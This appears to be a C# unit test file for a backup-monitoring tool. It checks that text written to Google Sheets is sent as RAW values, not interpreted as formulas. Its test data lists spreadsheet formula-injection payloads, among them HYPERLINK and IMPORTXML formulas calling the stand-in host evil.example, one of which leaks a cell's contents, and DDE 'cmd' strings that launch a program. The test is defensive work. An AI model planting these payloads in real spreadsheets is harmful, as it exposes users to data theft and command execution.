using System.Text.Json.Nodes;
using MonitoramentoBKP.Collector.Domain;
using MonitoramentoBKP.Collector.Google.Tests.Support;
using MonitoramentoBKP.FakeGoogle;

namespace MonitoramentoBKP.Collector.Google.Tests;

/// <summary>Text from the registry and the probes reaches Google as text: every value is sent RAW, never USER_ENTERED, and no cell gets a prefix.</summary>
public sealed class RawValuesTests
{
    /// <summary>One text for each start a spreadsheet reads as a formula: '=', '+', '-', '@', tab, carriage return.</summary>
    private static readonly string[] Formulas =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Clique aqui\")",
        "=IMPORTXML(\"http://evil.example/x\",\"//a\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    private static readonly string[] ValueWrites = ["values.append", "values.update", "values.batchUpdate"];

    private static IEnumerable<string> Strings(JsonNode? node) => node switch
    {
        JsonObject o => o.SelectMany(p => Strings(p.Value)),
        JsonArray a => a.SelectMany(Strings),
        JsonValue v when v.TryGetValue<string>(out var text) => [text],
        _ => [],
    };

    private static string? InputOption(RecordedRequest request) =>
        request.Operation!.EndsWith("values.batchUpdate", StringComparison.Ordinal)
            ? JsonNode.Parse(request.Body)?["valueInputOption"]?.GetValue<string>()
            : System.Web.HttpUtility.ParseQueryString(request.Query)["valueInputOption"];

    [Fact]
    public async Task Branch_names_file_names_and_reasons_that_look_like_formulas_go_raw_in_every_request_and_land_as_written()
    {
        await using var rig = await GoogleRig.StartAsync(branches: Formulas.Length, name: i => Formulas[i - 1]);
        await rig.Dispatcher.InitAsync(default);
        for (var i = 1; i <= Formulas.Length; i++)
        {
            await rig.FlipAsync($"F{i:0000}", SetStatus.Failed, GoogleRig.Now, reason: Formulas[i - 1], file: Formulas[i - 1]);
        }

        var result = await rig.Dispatcher.DispatchAsync(default);

        Assert.Null(result.Problem);
        var writes = rig.Google.Requests.Where(r => r.Operation is { } op && ValueWrites.Any(w => op.EndsWith(w, StringComparison.Ordinal))).ToList();
        Assert.Contains(writes, r => r.Operation!.EndsWith("values.append", StringComparison.Ordinal));
        Assert.All(writes, r => Assert.Equal("RAW", InputOption(r)));
        Assert.DoesNotContain(rig.Google.Requests, r => r.Query.Contains("USER_ENTERED", StringComparison.Ordinal) || r.Body.Contains("USER_ENTERED", StringComparison.Ordinal));
        foreach (var formula in Formulas)
        {
            var carrying = rig.Google.Requests.Where(r => r.Operation is not null && r.Body.Length > 0 && Strings(JsonNode.Parse(r.Body)).Any(s => s.Contains(formula, StringComparison.Ordinal))).ToList();
            Assert.NotEmpty(carrying);
            Assert.All(carrying, r => Assert.Contains(writes, w => ReferenceEquals(w, r)));
        }

        var status = rig.Spreadsheet.Sheet("Status").Values.Skip(1).ToList();
        Assert.Equal(Formulas.Order(StringComparer.Ordinal), status.Select(r => (string)r[1]!).Order(StringComparer.Ordinal));
        Assert.All(status, r => Assert.Equal(r[1], r[5]));
        Assert.All(status, r => Assert.Equal(r[1], r[7]));
        var alerts = rig.Spreadsheet.Sheet("Alertas").Values.Skip(1).ToList();
        Assert.Equal(Formulas.Order(StringComparer.Ordinal), alerts.Select(r => (string)r[3]!).Order(StringComparer.Ordinal));
        Assert.All(alerts, r => Assert.Equal(r[3], r[8]));
        Assert.Equal(Formulas.Order(StringComparer.Ordinal), rig.Spreadsheet.Sheet("Histórico").Values.Skip(1).Select(r => (string)r[1]!).Order(StringComparer.Ordinal));
    }
}
